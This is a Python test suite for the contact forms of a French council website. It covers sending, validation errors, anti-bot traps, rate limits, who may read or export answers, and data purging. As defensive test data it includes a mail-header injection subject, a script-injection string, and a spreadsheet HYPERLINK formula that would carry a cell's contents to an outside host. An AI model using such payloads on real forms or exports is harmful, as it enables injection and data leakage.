"""What residents send arrives once, nothing of it is lost, and only their council reads it."""

import csv
import re
from datetime import timedelta

import html5lib
import pytest
import time_machine
from django.core import mail, signing
from django.core.management import call_command
from django.urls import reverse
from django.utils import timezone
from wagtail.contrib.forms.models import FormSubmission
from wagtail.models import Page

from cms.pages.form_guard import STARTED, TRAP
from cms.pages.models import FormField, FormPage
from sites.councils.roles import CONTRIBUTOR, COORDINATOR, EDITOR, LEAD, MODERATOR
from sites.notifications.models import Mail
from tests.cms import factories

pytestmark = pytest.mark.django_db

NS = "{http://www.w3.org/1999/xhtml}"
HOME, ELSEWHERE = "192.0.2.7", "198.51.100.9"
CONTACT, TEAM = "/contact/", "equipe@exemple.fr"
NAME, EMAIL = "votre_nom_ou_pseudonyme", "votre_adresse_electronique"
TYPED = {
    NAME: "Sureau",
    EMAIL: "sureau@exemple.fr",
    "sujet": "Le banc de la place",
    "message": "Il manque une latte.\nQui s’en occupe ?",
}


@pytest.fixture
def client(client_for, council):
    return client_for(council)


@pytest.fixture
def contact(council) -> FormPage:
    FormPage.objects.filter(pk=factories.section(council, "contact").pk).update(to_address=TEAM)
    return factories.section(council, "contact")


def stamp_in(html: str) -> str:
    return re.search(rf'name="{STARTED}" value="([^"]+)"', html)[1]


def opened(client, path=CONTACT, seconds: float = 60) -> str:
    """The stamp of a form that was opened ``seconds`` ago."""
    with time_machine.travel(timezone.now() - timedelta(seconds=seconds), tick=False):
        return stamp_in(client.get(path).content.decode())


def send(client, path=CONTACT, *, network=HOME, started=None, **changed):
    """Post a form of a minute ago, filled in well but for what is ``changed``."""
    started = opened(client, path) if started is None else started
    return client.post(path, TYPED | {STARTED: started} | changed, REMOTE_ADDR=network)


def stored() -> list[dict]:
    """Every answer in the database, as typed."""
    answers = FormSubmission.objects.order_by("pk").values_list("form_data", flat=True)
    return [{name: value for name, value in one.items() if name != TRAP} for one in answers]


def shown(response) -> dict[str, str]:
    """What the fields of a form hold, by name."""
    tree = html5lib.parse(response.content.decode())
    inputs = {e.get("name"): e.get("value") or "" for e in tree.iter(f"{NS}input")}
    # A parser drops the line end that Django writes after <textarea>.
    return inputs | {e.get("name"): e.text or "" for e in tree.iter(f"{NS}textarea")}


def assert_kept(response, typed: dict) -> None:
    """Refused, with everything that was typed still in its place, and nothing stored."""
    assert response.status_code == 422
    assert typed.items() <= shown(response).items()
    assert not FormSubmission.objects.exists()


class TestSending:
    def test_is_stored_once(self, client, contact):
        response = send(client)
        assert response.status_code == 302
        assert stored() == [TYPED]
        assert FormSubmission.objects.get().page_id == contact.pk

    def test_ends_on_a_page_that_may_be_reloaded(self, client, contact):
        page = client.get(send(client)["Location"])
        assert contact.thanks in page.content.decode()
        assert STARTED not in page.content.decode()
        assert len(stored()) == 1

    def test_is_mailed_to_the_council_with_the_way_to_answer(
        self, client, contact, council, posted
    ):
        send(client)
        (message,) = posted()
        assert message.to == [TEAM]
        assert message.reply_to == [TYPED[EMAIL]]
        assert message.from_email.endswith("<ne-pas-repondre@quartiers.localhost>")
        assert message.subject == f"[{council.name}] Contact"
        (html, _kind) = message.alternatives[0]
        for form in (message.body, html):
            assert all(line in form for value in TYPED.values() for line in value.split("\n"))
            assert contact.get_full_url() in form

    def test_waits_in_the_outbox_until_somebody_sends_it(self, client, contact):
        send(client)
        assert mail.outbox == []
        assert Mail.objects.get().state == Mail.State.WAITING

    def test_without_an_address_nothing_is_mailed(self, client, council, posted):
        send(client)
        assert posted() == []
        assert stored() == [TYPED]

    def test_the_subject_is_one_line(self, client, contact, posted):
        Page.objects.filter(pk=contact.pk).update(title="Nous\r\nBcc: x@exemple.fr\u2028écrire")
        send(client)
        (message,) = posted()
        assert message.subject.endswith("] Nous Bcc: x@exemple.fr écrire")

    @pytest.mark.parametrize("address", ['"a\x0bb"@b.fr', '"a\x7fb"@b.fr', '"\x01"@b.fr'])
    def test_an_address_that_would_break_a_header_is_in_none(
        self, client, contact, posted, address
    ):
        assert send(client, **{EMAIL: address}).status_code == 302
        assert posted()[0].message()["Reply-To"] is None
        assert stored() == [TYPED | {EMAIL: address}]

    def test_an_address_that_mail_cannot_encode_costs_nobody_anything(
        self, client, contact, posted
    ):
        address = f"sureau@{'é' * 62}.fr"  # valid for Django, too long in IDNA
        assert send(client, **{EMAIL: address}).status_code == 302
        assert stored() == [TYPED | {EMAIL: address}]
        assert TYPED["message"] in posted()[0].body

    def test_what_somebody_writes_is_text_in_the_mail(self, client, contact, posted):
        send(client, message='<img src="https://exemple.fr/x"> & <b>gras</b>')
        (message,) = posted()
        assert "& <b>gras</b>" in message.body
        assert "<img" not in message.alternatives[0][0]

    @pytest.mark.parametrize("method", ["get", "head", "put", "options"])
    def test_only_a_post_sends(self, client, contact, posted, method):
        data = TYPED | {STARTED: opened(client)}
        assert getattr(client, method)(CONTACT, data).status_code < 500
        assert stored() == []
        assert posted() == []

    def test_another_site_does_not_send(self, client_for, client, council, other_council, portal):
        about = factories.section(council, "le-conseil")
        factories.form(about, ("Message", "multiline"), title="Écrire", slug="ecrire")
        path, started = "/le-conseil/ecrire/", opened(client, "/le-conseil/ecrire/")
        for place in (other_council, portal):
            assert send(client_for(place), path, started=started).status_code == 404
        assert stored() == []
        assert send(client, path, started=started).status_code == 302

    def test_every_site_has_its_own_contact_form(self, client_for, contact, other_council, posted):
        send(client_for(other_council))
        theirs = factories.section(other_council, "contact")
        assert FormSubmission.objects.get().page_id == theirs.pk
        assert posted() == []


@pytest.mark.parametrize(
    ("kind", "answer", "words"),
    [
        ("checkboxes", ["Lundi", "Mardi"], "Lundi, Mardi"),
        ("multiselect", ["Lundi", "Mardi"], "Lundi, Mardi"),
        ("checkbox", "on", "Jours"),
        ("radio", "Mardi", "Mardi"),
        ("dropdown", "Mardi", "Mardi"),
        ("number", "3", "3"),
        ("url", "https://exemple.fr/", "https://exemple.fr/"),
        ("date", "2026-03-14", "14"),
        ("datetime", "2026-03-14 18:30", "30"),
        ("hidden", "affiche", "affiche"),
    ],
)
def test_every_kind_of_field_is_stored_and_mailed_in_words(
    client, council, posted, kind, answer, words
):
    page = factories.form(factories.section(council, "le-conseil"), slug="f", to_address=TEAM)
    page.form_fields = [
        FormField(label="Jours", field_type=kind, choices="Lundi\nMardi\nJeudi", required=True)
    ]
    page.save()
    response = send(client, "/le-conseil/f/", jours=answer)
    assert response.status_code == 302
    assert stored()[0]["jours"]
    body = posted()[0].body
    assert words in body
    assert "True" not in body


class TestMistakes:
    WRONG = [
        (EMAIL, ""),
        (EMAIL, "sureau"),
        ("sujet", ""),
        ("sujet", "x" * 256),
        ("message", ""),
        ("message", "x" * 5001),
    ]

    @pytest.mark.parametrize(("field", "value"), WRONG)
    def test_are_told_and_nothing_typed_is_lost(self, client, contact, field, value):
        response = send(client, **{field: value})
        assert_kept(response, TYPED | {field: value})
        assert list(response.context["form"].errors) == [field]

    @pytest.mark.parametrize(("field", "value"), WRONG)
    def test_are_tied_to_their_field(self, client, contact, field, value):
        tree = html5lib.parse(send(client, **{field: value}).content.decode())
        by_id = {e.get("id"): e for e in tree.iter() if e.get("id")}
        control = by_id[f"id_{field}"]
        assert control.get("aria-invalid") == "true"
        described = [by_id[key] for key in control.get("aria-describedby").split()]
        assert any("field-error" in (e.get("class") or "") for e in described)

    def test_are_summed_up_at_the_top(self, client, contact):
        response = send(client, **{EMAIL: "sureau", "message": ""})
        tree = html5lib.parse(response.content.decode())
        (summary,) = [e for e in tree.iter() if e.get("id") == "erreurs"]
        assert summary.get("role") == "alert"
        links = [a.get("href") for a in summary.iter(f"{NS}a")]
        assert links == [f"#id_{EMAIL}", "#id_message"]
        assert "Erreur" in tree.find(f".//{NS}title").text

    @pytest.mark.parametrize("kind", ["radio", "checkboxes", "checkbox", "dropdown", "date"])
    def test_the_summary_leads_to_any_kind_of_field(self, client, council, kind):
        page = factories.form(factories.section(council, "le-conseil"), slug="f")
        page.form_fields = [FormField(label="Jour", field_type=kind, choices="Lundi\nMardi")]
        page.save()
        tree = html5lib.parse(send(client, "/le-conseil/f/").content.decode())
        ids = {e.get("id") for e in tree.iter()}
        (summary,) = [e for e in tree.iter() if e.get("id") == "erreurs"]
        targets = [a.get("href") for a in summary.iter(f"{NS}a")]
        assert targets
        assert all(target[1:] in ids for target in targets)

    @pytest.mark.parametrize("length", [("sujet", 255), ("message", 5000)])
    def test_a_text_may_be_as_long_as_is_said(self, client, contact, length):
        field, most = length
        assert send(client, **{field: "é" * most}).status_code == 302

    def test_what_was_typed_is_text_not_markup(self, client, contact):
        typed = {"message": "</textarea><script>alert(1)</script>", "sujet": '"><b>', EMAIL: ""}
        response = send(client, **typed)
        assert_kept(response, TYPED | typed)
        assert "<script>alert" not in response.content.decode()


class TestMachines:
    def test_who_fills_the_field_nobody_sees_is_answered_like_anybody(
        self, client, contact, posted
    ):
        trapped = send(client, **{TRAP: "https://exemple.fr"})
        assert stored() == []
        assert posted() == []
        welcome = send(client)
        assert (trapped.status_code, trapped["Location"]) == (302, welcome["Location"])

    def test_nobody_sees_that_field(self, client, contact):
        tree = html5lib.parse(client.get(CONTACT).content.decode())
        (trap,) = [e for e in tree.iter(f"{NS}div") if e.get("class") == "trap"]
        assert trap.get("aria-hidden") == "true"
        (field,) = trap.iter(f"{NS}input")
        assert (field.get("name"), field.get("tabindex")) == (TRAP, "-1")

    @pytest.fixture
    def clock(self):
        """A clock that stands still at a full second, as stamps count: no slow machine matters."""
        with time_machine.travel(timezone.now().replace(microsecond=0), tick=False) as clock:
            yield clock

    def test_who_is_too_fast_is_asked_again_and_keeps_the_text(self, client, contact, clock):
        response = send(client, started=opened(client, seconds=1))
        assert_kept(response, TYPED)
        assert "C’était très rapide" in response.content.decode()
        clock.shift(5)
        assert send(client, started=stamp_in(response.content.decode())).status_code == 302
        assert stored() == [TYPED]

    def test_who_is_too_fast_twice_is_asked_twice(self, client, contact, clock):
        again = stamp_in(send(client, started=opened(client, seconds=1)).content.decode())
        assert_kept(send(client, started=again), TYPED)

    def test_who_takes_all_day_is_heard(self, client, contact):
        assert send(client, started=opened(client, seconds=86_400)).status_code == 302

    @pytest.mark.parametrize(
        "forge",
        [
            lambda stamp: "",
            lambda stamp: "form",
            lambda stamp: stamp[:-1] + ("A" if stamp[-1] != "A" else "B"),
            lambda stamp: "é\x00",
            lambda stamp: signing.dumps("form"),
            lambda stamp: signing.dumps("form", key="une autre clé", salt="quartiers.forms"),
        ],
        ids=["empty", "plain", "altered", "odd", "of another use", "of another install"],
    )
    def test_a_stamp_that_is_not_ours_is_refused(self, client, contact, forge):
        with time_machine.travel(timezone.now() - timedelta(hours=1)):
            started = forge(opened(client))
        assert_kept(send(client, started=started), TYPED)

    def test_a_missing_stamp_is_refused(self, client, contact):
        response = client.post(CONTACT, TYPED)
        assert_kept(response, TYPED)
        assert stamp_in(response.content.decode())

    def test_a_missing_token_is_refused(self, client_for, council, contact):
        client = client_for(council, enforce_csrf_checks=True)
        started = opened(client)
        assert send(client, started=started).status_code == 403
        assert stored() == []
        token = re.search(
            r'csrfmiddlewaretoken" value="(\w+)', client.get(CONTACT).content.decode()
        )
        response = send(client, started=started, csrfmiddlewaretoken=token[1])
        assert response.status_code == 302


class TestTooMany:
    @pytest.fixture
    def started(self, client, contact) -> str:
        return opened(client)

    @pytest.fixture(autouse=True)
    def _used_up(self, client, started):
        for _message in range(10):
            assert send(client, started=started).status_code == 302

    def test_the_eleventh_in_an_hour_is_refused_with_its_text(self, client, started, posted):
        response = send(client, started=started)
        assert response.status_code == 422
        assert TYPED.items() <= shown(response).items()
        assert "Trop de messages à la suite" in response.content.decode()
        assert len(stored()) == len(posted()) == 10

    def test_another_network_is_heard(self, client, started):
        assert send(client, started=started, network=ELSEWHERE).status_code == 302

    def test_an_hour_later_it_is_heard_again(self, client, started):
        with time_machine.travel(timezone.now() + timedelta(seconds=3601)):
            assert send(client, started=started).status_code == 302

    def test_all_forms_count_together(self, client_for, other_council, client, council):
        factories.form(factories.section(council, "le-conseil"), slug="f")
        assert send(client, "/le-conseil/f/").status_code == 422
        assert send(client_for(other_council)).status_code == 422


def test_mistakes_do_not_count_as_messages(client, contact):
    started = opened(client)
    for _mistake in range(12):
        send(client, started=started, sujet="")
    assert send(client, started=started).status_code == 302


class TestReading:
    """Answers are for those who change the form's page."""

    SECRET = "Rue des Secrets"
    VIEWS = [
        ("list_submissions", ""),
        ("list_submissions_results", ""),
        ("list_submissions", "?export=csv"),
        ("list_submissions", "?export=xlsx"),
        ("delete_submissions", ""),
    ]

    @pytest.fixture
    def answer(self, contact) -> FormSubmission:
        data = TYPED | {"message": self.SECRET}
        return FormSubmission.objects.create(page=contact, form_data=data)

    def read(self, client, view: str, query: str, answer):
        address = reverse(f"wagtailforms:{view}", args=[answer.page_id]) + query
        joint = "&" if query else "?"
        return client.get(f"{address}{joint}selected-submissions={answer.pk}")

    @pytest.mark.parametrize(("view", "query"), VIEWS)
    @pytest.mark.parametrize("role", [CONTRIBUTOR, EDITOR, LEAD, MODERATOR, COORDINATOR])
    def test_another_councils_people_do_not(
        self, client_for, make_user, other_council, answer, role, view, query
    ):
        user = make_user(role, None if role == COORDINATOR else other_council)
        response = self.read(client_for("admin", user), view, query, answer)
        assert response.status_code in (302, 403, 404)
        assert not response.streaming
        assert self.SECRET not in response.content.decode()

    @pytest.mark.parametrize("role", [CONTRIBUTOR, MODERATOR, None])
    def test_nor_does_who_may_not_change_the_page(
        self, client_for, make_user, council, answer, role
    ):
        client = client_for("admin", make_user(role, council))
        for view, query in self.VIEWS:
            response = self.read(client, view, query, answer)
            assert response.status_code in (302, 403, 404)
            assert not response.streaming

    def test_nor_does_another_council_find_the_form_in_the_list(
        self, client_for, make_user, contact, other_council
    ):
        client = client_for("admin", make_user(EDITOR, other_council))
        html = client.get(reverse("wagtailforms:index")).content.decode()
        theirs = factories.section(other_council, "contact")
        assert reverse("wagtailforms:list_submissions", args=[theirs.pk]) in html
        assert reverse("wagtailforms:list_submissions", args=[contact.pk]) not in html

    def test_nor_does_another_council_delete_them(
        self, client_for, make_user, other_council, answer
    ):
        address = reverse("wagtailforms:delete_submissions", args=[answer.page_id])
        client = client_for("admin", make_user(LEAD, other_council))
        client.post(f"{address}?selected-submissions={answer.pk}")
        theirs = factories.section(other_council, "contact")
        address = reverse("wagtailforms:delete_submissions", args=[theirs.pk])
        client.post(f"{address}?selected-submissions={answer.pk}")
        assert FormSubmission.objects.filter(pk=answer.pk).exists()

    def test_the_council_does(self, client_for, make_user, council, answer):
        client = client_for("admin", make_user(EDITOR, council))
        response = self.read(client, "list_submissions", "", answer)
        assert self.SECRET in response.content.decode()

    @pytest.mark.parametrize(
        ("typed", "exported"),
        [
            ('=HYPERLINK("https://exemple.fr?"&A1;"Ici")',) * 2,
            ("+1", "+1"),
            ("@x", "@x"),
            ("-1", "-1"),
            ("\t=1", "\t=1"),
            ("Un banc", None),
            ("1 + 1 = 2", None),
        ],
    )
    def test_a_spreadsheet_runs_nothing_of_it(
        self, client_for, make_user, council, contact, typed, exported
    ):
        FormSubmission.objects.create(page=contact, form_data=TYPED | {"sujet": typed})
        client = client_for("admin", make_user(EDITOR, council))
        address = reverse("wagtailforms:list_submissions", args=[contact.pk])
        response = client.get(f"{address}?export=csv")
        lines = response.getvalue().decode().splitlines(keepends=True)
        (row,) = csv.DictReader(lines)
        assert row["Sujet"] == (f"'{exported}" if exported else typed)
        assert row["Message"].split() == TYPED["message"].split()


class TestPurge:
    def answer(self, form: FormPage, **age) -> FormSubmission:
        answer = FormSubmission.objects.create(page=form, form_data=TYPED)
        FormSubmission.objects.filter(pk=answer.pk).update(
            submit_time=timezone.now() - timedelta(**age)
        )
        return answer

    def kept(self) -> set[int]:
        call_command("purge_forms")
        return set(FormSubmission.objects.values_list("pk", flat=True))

    def test_deletes_what_is_older_than_each_form_says(self, council, other_council, capsys):
        short = factories.form(factories.section(council, "le-conseil"), retention_days=30)
        long = factories.form(factories.section(other_council, "le-conseil"), retention_days=365)
        self.answer(short, days=30, seconds=5)
        self.answer(short, days=100)
        self.answer(long, days=366)
        kept = [
            self.answer(short, days=29, hours=23),
            self.answer(short),
            self.answer(long, days=100),
            self.answer(long, days=364),
        ]
        assert self.kept() == {answer.pk for answer in kept}
        assert capsys.readouterr().out.startswith("3 ")
        assert self.kept() == {answer.pk for answer in kept}

    def test_deletes_the_answers_to_a_form_that_is_no_longer_shown(self, council):
        form = factories.form(factories.section(council, "le-conseil"), retention_days=30)
        form.unpublish()
        self.answer(form, days=31)
        assert self.kept() == set()

    def test_follows_what_is_published_not_a_draft(self, council):
        form = factories.form(factories.section(council, "le-conseil"), retention_days=30)
        answer = self.answer(form, days=10)
        form.retention_days = 5
        form.save_revision()
        assert self.kept() == {answer.pk}

    @pytest.mark.parametrize(("days", "words"), [(30, "au bout de 30 jours"), (1, "d’un jour")])
    def test_the_form_says_when(self, client, contact, days, words):
        FormPage.objects.filter(pk=contact.pk).update(retention_days=days)
        assert words in client.get(CONTACT).content.decode().replace("\u00a0", " ")
